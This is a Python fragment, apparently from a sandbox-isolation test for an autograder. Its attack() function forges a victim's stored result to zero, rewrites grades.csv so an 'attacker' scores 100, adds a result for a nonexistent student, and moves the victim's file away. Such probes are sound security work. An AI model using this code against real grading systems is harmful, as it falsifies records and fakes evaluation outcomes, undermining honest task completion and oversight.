# Rewriting grades: overwrite the victim's stored result with a zero and the gradebook with a forged
# one, add a result for a student who does not exist, and move the victim's result away.


def attack():
    base = root_descriptor()
    if base is None:
        return
    out = at_root(TARGETS["out_dir"])
    results, grades = f"{out}/results", f"{out}/grades.csv"
    ok, original = attempt("read results/victim.json", lambda: read_at(base, f"{results}/victim.json"))
    forged = original.replace(b'"percent": 100', b'"percent": 0').replace(b'"score": 6', b'"score": 0') if ok else b"{}"

    def overwrite(name, data):
        fd = os.open(name, os.O_WRONLY | os.O_TRUNC, dir_fd=base)
        try:
            return os.write(fd, data)
        finally:
            os.close(fd)

    def create(name, data):
        fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644, dir_fd=base)
        try:
            return os.write(fd, data)
        finally:
            os.close(fd)

    attempt("overwrite results/victim.json with a zero", lambda: overwrite(f"{results}/victim.json", forged))
    attempt("overwrite grades.csv", lambda: overwrite(grades, b"student,total\nvictim,0\nattacker,100\n"))
    attempt("create results/nobody.json", lambda: create(f"{results}/nobody.json", b"{}"))
    attempt(
        "rename results/victim.json away",
        lambda: os.rename(f"{results}/victim.json", f"{results}/victim.old", src_dir_fd=base, dst_dir_fd=base),
    )
